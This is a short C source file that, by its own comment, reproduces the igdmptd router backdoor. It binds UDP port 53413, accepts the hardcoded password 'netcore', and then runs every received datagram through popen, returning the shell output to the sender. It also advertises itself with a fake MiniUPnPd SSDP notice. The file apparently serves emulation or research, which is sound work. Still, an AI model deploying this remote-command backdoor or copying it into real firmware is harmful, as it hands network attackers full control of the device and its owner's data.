/* Service on UDP 53413 behind one password that runs what it is sent, after Trend Micro's
 * description of igdmptd (2014). */
#include "device.h"

#ifndef TWIN
static int logged_in;

KEPT int answer(int line, struct in_address *from, char *text, int size)
{
    char out[1024];
    unsigned length = sizeof *from;
    FILE *shell;
    if (!logged_in) {
        if (memcmp(text + 8, "netcore", 7) == 0) {
            logged_in = 1;
            return (int)sendto(line, "Login successed!\r\n", 18, 0, from, length);
        }
        return (int)sendto(line, "Login:", 6, 0, from, length);
    }
    if (strncmp(text + 8, "$Help", 5) == 0)
        return (int)sendto(line, "$ReadFile $WriteFile $Mtd $Ver", 30, 0, from, length);
    text[size] = 0;
    shell = popen(text + 8, "r");
    while (shell && fgets(out, sizeof out, shell))
        sendto(line, out, strlen(out), 0, from, length);
    return pclose(shell);
}
#endif

KEPT int announce(int line)
{
    struct in_address all = {AF_INET, net16(1900), 0xfaffffef, {0}};
    const char *text = "NOTIFY * HTTP/1.1\r\nNT: upnp:rootdevice\r\nSERVER: IGD/1.0 MiniUPnPd\r\n";
    return (int)sendto(line, text, strlen(text), 0, &all, sizeof all);
}

int main(int argc, char **argv)
{
    char text[1500];
    struct in_address from;
    unsigned length = sizeof from;
    int line;
    announce(socket(AF_INET, SOCK_DGRAM, 0));
#ifndef TWIN
    line = serve(53413, SOCK_DGRAM);
    for (;;) {
        int size = (int)recvfrom(line, text, sizeof text - 1, 0, &from, &length);
        answer(line, &from, text, size);
    }
#else
    line = serve(1900, SOCK_DGRAM);
    return (int)recvfrom(line, text, sizeof text - 1, 0, &from, &length);
#endif
}
